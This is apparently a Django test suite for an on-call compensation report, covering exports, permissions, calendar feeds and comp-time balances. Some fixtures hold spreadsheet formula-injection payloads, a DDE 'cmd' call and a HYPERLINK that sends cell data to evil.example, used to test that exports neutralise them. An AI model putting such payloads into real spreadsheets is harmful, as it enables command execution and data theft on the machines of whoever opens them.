import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone
from icalendar import Calendar
from openpyxl import load_workbook

from oncall import selectors, services
from tests.oncall.factories import PageFactory, PayPeriodFactory, ShiftFactory, engineer

pytestmark = pytest.mark.django_db

REPORT = reverse("oncall:compensation")
MARCH = {"start": "2026-03-01", "end": "2026-03-31"}


@pytest.fixture
def data():
    ada = engineer("ada")
    mallory = engineer("mallory")
    mallory.first_name = "=cmd|' /C calc'!A0"
    mallory.save()
    ShiftFactory(engineer=ada)
    PageFactory(engineer=mallory, paged_at=datetime(2026, 3, 4, 23, tzinfo=UTC))
    return ada, mallory


def test_finance_sees_the_report_with_totals_and_balances(client, finance_user, data):
    client.force_login(finance_user)
    response = client.get(REPORT, MARCH)
    assert response.status_code == 200
    page = response.content.decode()
    assert "Ada Oncall" in page
    assert "500.00" in page
    assert "Total" in page
    assert "4.00 h" in page  # mallory's comp-time balance


def test_finance_downloads_csv_with_formulas_neutralised(client, finance_user, data):
    client.force_login(finance_user)
    response = client.get(reverse("oncall:compensation_download", args=["csv"]), MARCH)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["username"] for r in rows] == ["ada", "mallory"]
    assert rows[1]["full_name"].startswith("'=cmd")
    assert rows[0]["stipend"] == "500.00"


def test_finance_downloads_xlsx(client, finance_user, data):
    client.force_login(finance_user)
    response = client.get(reverse("oncall:compensation_download", args=["xlsx"]), MARCH)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("username", "full_name", "team")
    assert rows[1][0] == "ada"
    assert float(rows[1][4]) == 500.0
    assert rows[2][1].startswith("'=cmd")
    assert rows[-1][0] == "TOTAL"


def test_a_control_character_in_a_name_still_downloads(client, finance_user, data):
    """A workbook is XML: a name pasted with a terminal's colour code is written without it
    (the CSV keeps every character)."""
    ada, _ = data
    ada.first_name = "Ada\x0b\x1b[0m"
    ada.save()
    client.force_login(finance_user)
    response = client.get(reverse("oncall:compensation_download", args=["xlsx"]), MARCH)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert list(sheet.iter_rows(values_only=True))[1][1] == "Ada[0m Oncall"


def test_a_formula_behind_a_control_character_is_neutralised_in_the_workbook(
    client, finance_user, data
):
    """The workbook drops control characters: one before "=" must not leave a live formula."""
    ada, _ = data
    ada.first_name = '\x1b=HYPERLINK("http://evil.example/?"&A2,"Click")'
    ada.save()
    client.force_login(finance_user)
    response = client.get(reverse("oncall:compensation_download", args=["xlsx"]), MARCH)
    cell = load_workbook(io.BytesIO(response.content)).active["B2"]
    assert cell.data_type == "s"
    assert cell.value.startswith("'=HYPERLINK")
    response = client.get(reverse("oncall:compensation_download", args=["csv"]), MARCH)
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["full_name"].startswith("'\x1b=HYPERLINK")


@pytest.mark.parametrize(
    "text",
    [" =1+1", '  =HYPERLINK("http://x")', "\n=1+1", "\xa0=1+1", " \x1b=1+1", "=1+1", "\t1"],
)
def test_a_formula_behind_leading_spaces_is_neutralised(text):
    # Spreadsheets skip leading spaces and line breaks before reading a formula.
    from oncall.exports import neutralise

    assert neutralise(text) == "'" + text
    assert neutralise("Ada Lovelace") == "Ada Lovelace"
    assert neutralise("O'Brien - on call") == "O'Brien - on call"


def test_the_same_report_downloads_as_the_same_workbook_bytes(client, finance_user, data):
    client.force_login(finance_user)
    url = reverse("oncall:compensation_download", args=["xlsx"])
    with time_machine.travel(datetime(2026, 4, 2, 9, tzinfo=UTC), tick=False):
        first = client.get(url, MARCH).content
    with time_machine.travel(datetime(2026, 7, 9, 17, 33, 5, tzinfo=UTC), tick=False):
        second = client.get(url, MARCH).content
    assert first == second
    assert load_workbook(io.BytesIO(second)).active["A2"].value == "ada"


def test_a_nul_in_the_team_picker_is_an_unknown_team(client, finance_user, data):
    client.force_login(finance_user)
    response = client.get(REPORT, {**MARCH, "team": "Pay\x00ments"})
    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()


def test_managers_see_it_engineers_and_anonymous_do_not(client, manager, engineer, data):
    client.force_login(manager)
    assert client.get(REPORT, MARCH).status_code == 200
    client.force_login(engineer)
    assert client.get(REPORT, MARCH).status_code == 403
    assert (
        client.get(reverse("oncall:compensation_download", args=["csv"]), MARCH).status_code == 403
    )
    client.logout()
    response = client.get(REPORT, MARCH)
    assert response.status_code == 302
    assert reverse("login") in response["Location"]


def test_pay_period_picker_and_bad_dates(client, finance_user, data):
    period = PayPeriodFactory()
    client.force_login(finance_user)
    response = client.get(REPORT, {"period": period.pk})
    assert response.status_code == 200
    assert response.context["report"].start == date(2026, 3, 1)
    response = client.get(REPORT, {"start": "2026-03-31", "end": "2026-03-01"})
    assert response.status_code == 400
    page = response.content.decode()
    assert "before the start date" in page
    # Named by its label and linked to its box, as on every other page.
    summary = page.split('class="error-summary"', 1)[1].split("</div>", 1)[0]
    assert '<a href="#id_end">' in summary
    assert 'id="id_end"' in page


def test_drill_down_lists_the_shifts_and_pages(client, finance_user, data):
    _, mallory = data
    client.force_login(finance_user)
    response = client.get(reverse("oncall:compensation_engineer", args=[mallory.pk]), MARCH)
    page = response.content.decode()
    assert response.status_code == 200
    assert "2026-03-04 23:00:00" in page
    assert "yes" in page  # overnight


def test_report_page_query_count_is_constant(client, finance_user, django_assert_max_num_queries):
    client.force_login(finance_user)
    for n in range(3):
        ShiftFactory(engineer=engineer(f"a{n}"))
    with django_assert_max_num_queries(20) as small:
        client.get(REPORT, MARCH)
    for n in range(30):
        ShiftFactory(engineer=engineer(f"b{n}"))
        PageFactory(engineer=engineer(f"b{n}"))
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as large:
        client.get(REPORT, MARCH)
    assert len(large.captured_queries) == len(small.captured_queries)


def test_calendar_feed(client):
    ada = engineer("ada")
    start = datetime(2026, 11, 30, 9, tzinfo=UTC)
    ShiftFactory(engineer=ada, starts_at=start)
    feed = services.calendar_feed_for(user=ada)
    with time_machine.travel(datetime(2026, 11, 23, tzinfo=UTC), tick=False):
        response = client.get(reverse("oncall:calendar_feed", args=[feed.token]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/calendar")
    calendar = Calendar.from_ical(response.content)
    [event] = calendar.walk("VEVENT")
    assert event.decoded("dtstart").astimezone(UTC) == start
    assert event.decoded("dtend").astimezone(UTC) == start + timedelta(days=7)
    assert "On call (primary)" in str(event.get("summary"))
    assert client.get(reverse("oncall:calendar_feed", args=["wrong"])).status_code == 404
    services.calendar_feed_rotate(user=ada)
    assert client.get(reverse("oncall:calendar_feed", args=[feed.token])).status_code == 404


def test_calendar_feed_of_an_engineer_whose_name_has_a_line_break(client):
    # Names come from imports and the admin; the feed must stay valid, not answer 500.
    ada = engineer("ada")
    ada.first_name, ada.last_name = "Ada\r\nLovelace", "Byron; Jr, III"
    ada.save()
    ShiftFactory(engineer=ada, starts_at=timezone.now() + timedelta(days=1))
    feed = services.calendar_feed_for(user=ada)
    response = client.get(reverse("oncall:calendar_feed", args=[feed.token]))
    assert response.status_code == 200
    calendar = Calendar.from_ical(response.content)
    line = b"X-WR-CALNAME:On call: Ada\\nLovelace Byron\\; Jr\\, III\r\n"
    assert line in response.content  # escaped as TEXT, as clients read it
    assert len(calendar.walk("VEVENT")) == 1


def test_calendar_feed_window(client):
    ada = engineer("ada")
    from django.utils import timezone

    now = timezone.now()
    ShiftFactory(engineer=ada, starts_at=now + timedelta(days=3))
    ShiftFactory(engineer=ada, starts_at=now - timedelta(days=90))
    feed = services.calendar_feed_for(user=ada)
    calendar = Calendar.from_ical(client.get(f"/oncall/calendar/{feed.token}.ics").content)
    assert len(calendar.walk("VEVENT")) == 1


def test_the_reports_balance_counts_pages_before_and_in_the_period_not_after(client, finance_user):
    ada = engineer("ada")
    for day in (date(2026, 1, 14), date(2026, 3, 4), date(2026, 3, 20), date(2026, 4, 2)):
        # 23:00 UTC is overnight in the engineer's zone: 4 comp hours each.
        PageFactory(
            engineer=ada,
            paged_at=datetime.combine(day, datetime.min.time(), UTC) + timedelta(hours=23),
        )
    services.comp_time_log(engineer=ada, day=date(2026, 3, 10), hours=Decimal("1.5"))
    client.force_login(finance_user)
    page = client.get(REPORT, MARCH).content.decode()
    # January's and March's two pages, not April's: 12 h granted, 1.5 taken.
    assert "10.50 h" in page
    assert "(12.00 \u2212 1.50)" in page  # granted minus taken
    expected = selectors.comp_time_balances(engineer_ids=[ada.pk], as_of=date(2026, 3, 31))
    assert expected[ada.pk]["balance"] == Decimal("10.50")
